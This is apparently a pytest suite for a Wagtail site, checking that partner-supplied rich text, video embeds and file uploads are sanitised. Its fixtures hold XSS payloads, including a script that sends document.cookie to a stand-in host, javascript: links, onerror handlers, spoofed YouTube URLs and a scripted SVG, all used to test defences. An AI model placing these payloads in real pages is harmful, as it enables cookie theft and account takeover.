"""What partners put on a page is cleaned on save, however it arrives: rich text without
scripts, handlers, styles or frames; videos from YouTube and Vimeo only; images and documents
of the allowed types only."""

import json

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from wagtail.documents import get_document_model
from wagtail.documents.forms import get_document_form
from wagtail.embeds.blocks import EmbedValue
from wagtail.embeds.finders import get_finders
from wagtail.images import get_image_model
from wagtail.images.forms import get_image_form

from community.core.rich_text import clean_rich_text
from community.stories.blocks import VideoBlock, is_allowed_video_url
from community.stories.pages import PartnerPage, StoryPage
from tests.factories.stories import StoryFactory, image_bytes, image_upload, story_body
from tests.markup import elements, event_handler_attributes, tags, urls

pytestmark = pytest.mark.django_db

HOSTILE = (
    '<h2 style="color: red" onmouseover="steal()">Results</h2>'
    '<p onclick="steal()">Onboarding is <b>twice</b> as fast.'
    "<script>fetch('https://evil.example/?c=' + document.cookie)</script></p>"
    '<p><a href="javascript:alert(document.domain)">Read more</a> '
    '<a href="https://www.example.com/case-study" target="_blank" onclick="steal()">Case study</a>'
    "</p>"
    '<iframe src="https://evil.example/frame"></iframe>'
    '<p><img src="x" onerror="steal()"><span style="position:fixed">Click here</span></p>'
)


def assert_clean(html: str) -> None:
    assert "script" not in tags(html)
    assert "iframe" not in tags(html)
    assert "img" not in tags(html)
    assert not event_handler_attributes(html)
    assert not any("style" in attrs for _, attrs in elements(html))
    assert not any(url.startswith("javascript:") for url in urls(html))
    assert "document.cookie" not in html
    # What the partner meant to say is kept.
    assert "Onboarding is <b>twice</b> as fast." in html
    assert "https://www.example.com/case-study" in urls(html)
    assert "Click here" in html


def hostile_story() -> list[dict]:
    return story_body(extra=[{"type": "results", "value": HOSTILE}]) + [
        {"type": "challenge", "value": HOSTILE}
    ]


def rich_text_values(raw_body) -> list[str]:
    if isinstance(raw_body, str):
        raw_body = json.loads(raw_body)
    return [
        block["value"]
        for block in raw_body
        if block["type"] in {"challenge", "solution", "results", "text"}
    ]


# --- Rich text ---------------------------------------------------------------------------


def test_rich_text_saved_outside_the_editor_is_cleaned_in_the_database(stories, partner_section):
    page = StoryPage(
        title="Kestrel Logistics ships on time",
        slug="kestrel-on-time",
        summary="Late deliveries dropped by a third.",
        customer_name="Kestrel Logistics",
        body=hostile_story(),
    )
    partner_section.page.add_child(instance=page)

    stored = StoryPage.objects.get(pk=page.pk).body.raw_data
    values = rich_text_values(list(stored))
    assert len(values) == 5
    for html in values[-2:]:
        assert_clean(html)


def test_rich_text_changed_on_a_saved_page_is_cleaned_again(stories):
    story = StoryFactory()
    story.body = [{"type": "text", "value": HOSTILE}]

    story.save()

    (html,) = rich_text_values(list(StoryPage.objects.get(pk=story.pk).body.raw_data))
    assert_clean(html)


def test_rich_text_in_a_revision_is_cleaned(stories, partner):
    story = StoryFactory(status="draft")
    story.body = [{"type": "solution", "value": HOSTILE}]

    revision = story.save_revision(user=partner)

    (html,) = rich_text_values(revision.content["body"])
    assert_clean(html)
    (latest,) = rich_text_values(list(revision.as_object().body.raw_data))
    assert_clean(latest)


def test_published_rich_text_renders_without_the_hostile_parts(client, stories):
    story = StoryFactory(body=[{"type": "challenge", "value": HOSTILE}])

    content = client.get(story.url).content.decode()

    assert "document.cookie" not in content
    assert "steal()" not in content
    assert "javascript:alert" not in content
    assert "https://evil.example/frame" not in content
    assert "twice" in content


def test_partner_about_text_is_cleaned_on_save_and_in_revisions(partner_section):
    section = PartnerPage.objects.get(pk=partner_section.page.pk)
    section.about = HOSTILE
    section.save()
    assert_clean(PartnerPage.objects.get(pk=section.pk).about)

    section.about = HOSTILE
    revision = section.save_revision()
    assert_clean(revision.content["about"])


def test_internal_page_and_document_links_survive_cleaning(stories, site_tree):
    linked = (
        f'<p>See <a linktype="page" id="{site_tree.pk}">the home page</a> and '
        '<a linktype="document" id="7">the case study PDF</a>.</p>'
    )
    story = StoryFactory(body=[{"type": "text", "value": linked}])

    (html,) = rich_text_values(list(StoryPage.objects.get(pk=story.pk).body.raw_data))
    links = [attrs for tag, attrs in elements(html) if tag == "a"]
    assert [(link.get("linktype"), link.get("id")) for link in links] == [
        ("page", str(site_tree.pk)),
        ("document", "7"),
    ]


def test_internal_page_link_still_points_at_the_page_when_rendered(client, stories, site_tree):
    story = StoryFactory(
        body=[{"type": "text", "value": f'<p><a linktype="page" id="{site_tree.pk}">Home</a></p>'}]
    )

    content = client.get(story.url).content.decode()

    assert any(
        tag == "a" and attrs.get("href") == "/" and "Home" in content
        for tag, attrs in elements(content)
    )


@pytest.mark.parametrize(
    "link",
    [
        '<a linktype="external" id="3">x</a>',
        '<a linktype="page" id="3 onclick=steal()">x</a>',
        '<a linktype="page" id="javascript:alert(1)">x</a>',
    ],
)
def test_made_up_link_types_and_ids_are_dropped(link):
    html = clean_rich_text(f"<p>{link}</p>")

    (attrs,) = [attrs for tag, attrs in elements(html) if tag == "a"]
    assert attrs.get("linktype") in (None, "page")
    assert attrs.get("id") in (None, "3")
    assert "onclick" not in html and "javascript" not in html


def test_the_editors_block_keys_survive_so_admin_comments_stay_anchored(stories):
    story = StoryFactory()
    story.body = [
        {
            "type": "text",
            "value": '<p data-block-key="a1b2c">Kept</p><p data-block-key="x y">Not</p>',
        }
    ]

    story.save()

    (html,) = rich_text_values(list(StoryPage.objects.get(pk=story.pk).body.raw_data))
    assert html == '<p data-block-key="a1b2c">Kept</p><p>Not</p>'


def test_external_links_are_marked_nofollow(stories):
    html = clean_rich_text('<p><a href="https://www.example.com/">Example</a></p>')

    (attrs,) = [attrs for tag, attrs in elements(html) if tag == "a"]
    assert "nofollow" in attrs["rel"] and "noopener" in attrs["rel"]


def test_quotes_and_calls_to_action_are_shown_as_text(client, stories):
    story = StoryFactory(
        body=[
            {
                "type": "quote",
                "value": {
                    "text": "<script>alert('quote')</script>It works.",
                    "name": "<img src=x onerror=alert(1)>",
                    "role": "",
                    "member": None,
                },
            },
            {
                "type": "call_to_action",
                "value": {
                    "heading": "<b>Try it</b>",
                    "text": "<iframe src='https://evil.example'></iframe>",
                    "button_label": "Start",
                    "url": "https://www.example.com/trial",
                },
            },
        ]
    )

    content = client.get(story.url).content.decode()

    assert "<script>alert('quote')</script>" not in content
    assert "<img src=x onerror=alert(1)>" not in content
    assert "<iframe src='https://evil.example'>" not in content
    assert "It works." in content
    assert "https://www.example.com/trial" in urls(content)


@pytest.mark.parametrize(
    "url", ["javascript:alert(document.cookie)", "data:text/html,<script>alert(1)</script>"]
)
def test_a_call_to_action_must_link_to_a_web_address(stories, url):
    stream_block = StoryPage.body.field.stream_block
    value = stream_block.to_python(
        [
            {
                "type": "call_to_action",
                "value": {"heading": "Try it", "text": "", "button_label": "Start", "url": url},
            }
        ]
    )

    with pytest.raises(ValidationError):
        stream_block.clean(value)


# --- Videos ----------------------------------------------------------------------------------


@pytest.fixture
def every_url_embeds(monkeypatch):
    """As if an embed finder answered for any address, without reaching the network."""
    monkeypatch.setattr(
        EmbedValue, "html", property(lambda value: '<iframe src="about:blank"></iframe>')
    )


@pytest.mark.parametrize(
    "url",
    [
        "https://www.youtube.com/watch?v=dQw4w9WgXcQ",
        "https://youtu.be/dQw4w9WgXcQ",
        "https://m.youtube.com/watch?v=dQw4w9WgXcQ",
        "https://vimeo.com/76979871",
        "http://player.vimeo.com/video/76979871",
    ],
)
def test_youtube_and_vimeo_addresses_are_allowed(url):
    assert is_allowed_video_url(url)


@pytest.mark.parametrize(
    "url",
    [
        "https://evil.example/video.mp4",
        "https://youtube.com.evil.example/watch?v=1",
        "https://notyoutube.com/watch?v=1",
        "https://www.youtube.com@evil.example/watch?v=1",
        "javascript:alert(1)//youtube.com",
        "ftp://vimeo.com/1",
        "",
    ],
)
def test_other_video_addresses_are_refused(url):
    assert not is_allowed_video_url(url)


def test_a_video_block_refuses_other_hosts_even_when_they_embed(every_url_embeds):
    with pytest.raises(ValidationError, match="YouTube or Vimeo"):
        VideoBlock().clean(EmbedValue("https://evil.example/player/42"))


def test_a_video_block_accepts_youtube(every_url_embeds):
    value = VideoBlock().clean(EmbedValue("https://www.youtube.com/watch?v=dQw4w9WgXcQ"))

    assert value.url == "https://www.youtube.com/watch?v=dQw4w9WgXcQ"


def test_a_story_with_a_video_from_elsewhere_does_not_validate(stories):
    story = StoryFactory.build(
        body=[{"type": "video", "value": "https://evil.example/player/42"}],
    )
    stream_block = StoryPage.body.field.stream_block

    with pytest.raises(ValidationError):
        stream_block.clean(story.body)
    with pytest.raises(ValidationError):
        story.full_clean()


@pytest.mark.parametrize(
    ("url", "embeds"),
    [
        ("https://www.youtube.com/watch?v=dQw4w9WgXcQ", True),
        ("https://vimeo.com/76979871", True),
        ("https://www.dailymotion.com/video/x7tgad0", False),
        ("https://evil.example/oembed", False),
    ],
)
def test_embed_finders_only_know_youtube_and_vimeo(url, embeds):
    assert any(finder.accept(url) for finder in get_finders()) is embeds


# --- Uploads ---------------------------------------------------------------------------------

SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>alert(document.cookie)</script><rect width='10' height='10'/></svg>"
)


@pytest.fixture
def uploader(partner, partner_section):
    """A partner, who may add images and documents to their own collection."""
    return partner


def image_form(name: str, content: bytes, user, content_type: str = "image/png"):
    form_class = get_image_form(get_image_model())
    return form_class(
        data={"title": "Uploaded logo"},
        files={"file": SimpleUploadedFile(name, content, content_type=content_type)},
        user=user,
    )


def test_svg_images_are_refused(uploader):
    form = image_form("logo.svg", SVG, uploader, "image/svg+xml")

    assert not form.is_valid()
    assert "file" in form.errors


def test_a_png_that_is_not_an_image_is_refused(uploader):
    form = image_form("logo.png", b"<html><script>alert(1)</script></html>", uploader)

    assert not form.is_valid()
    assert "file" in form.errors


def test_an_html_page_renamed_to_jpg_is_refused(uploader):
    form = image_form("photo.jpg", b"<!doctype html><p>hi</p>", uploader, "image/jpeg")

    assert not form.is_valid()


def test_a_real_png_is_accepted(uploader):
    form = image_form("logo.png", image_bytes(), uploader)

    assert form.is_valid(), form.errors


def test_partner_uploading_an_svg_in_the_admin_is_refused(client, partner, partner_section):
    client.force_login(partner)

    response = client.post(
        reverse("wagtailimages:add"),
        {
            "title": "Vector logo",
            "file": SimpleUploadedFile("logo.svg", SVG, content_type="image/svg+xml"),
        },
    )

    assert response.status_code == 422
    assert not get_image_model().objects.filter(title="Vector logo").exists()


def test_partner_uploading_a_png_in_the_admin_succeeds(client, partner, partner_section):
    client.force_login(partner)

    response = client.post(
        reverse("wagtailimages:add"), {"title": "Raster logo", "file": image_upload()}
    )

    assert response.status_code == 302
    assert get_image_model().objects.filter(title="Raster logo").exists()


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("case-study.html", b"<html><script>alert(document.cookie)</script></html>"),
        ("case-study.htm", b"<html><script>alert(document.cookie)</script></html>"),
        ("diagram.svg", SVG),
        ("page.xhtml", b"<html xmlns='http://www.w3.org/1999/xhtml'></html>"),
        ("macro.js", b"alert(1)"),
    ],
)
def test_documents_that_a_browser_would_run_are_refused(uploader, name, content):
    form_class = get_document_form(get_document_model())
    form = form_class(
        data={"title": "Case study"},
        files={"file": SimpleUploadedFile(name, content)},
        user=uploader,
    )

    assert not form.is_valid()
    assert "file" in form.errors


def test_a_pdf_document_is_accepted(uploader):
    form_class = get_document_form(get_document_model())
    form = form_class(
        data={"title": "Case study"},
        files={"file": SimpleUploadedFile("case-study.pdf", b"%PDF-1.4\n%%EOF\n")},
        user=uploader,
    )

    assert form.is_valid(), form.errors


def test_partner_uploading_an_html_document_in_the_admin_is_refused(
    client, partner, partner_section
):
    client.force_login(partner)

    response = client.post(
        reverse("wagtaildocs:add"),
        {
            "title": "Landing page",
            "file": SimpleUploadedFile("landing.html", b"<script>alert(1)</script>"),
        },
    )

    assert response.status_code == 200
    assert not get_document_model().objects.filter(title="Landing page").exists()


def test_partner_documents_land_in_their_collection(client, partner, partner_section):
    client.force_login(partner)

    response = client.post(
        reverse("wagtaildocs:add"),
        {"title": "Case study", "file": SimpleUploadedFile("case-study.pdf", b"%PDF-1.4\n")},
    )

    assert response.status_code == 302
    document = get_document_model().objects.get(title="Case study")
    assert document.collection == partner_section.collection
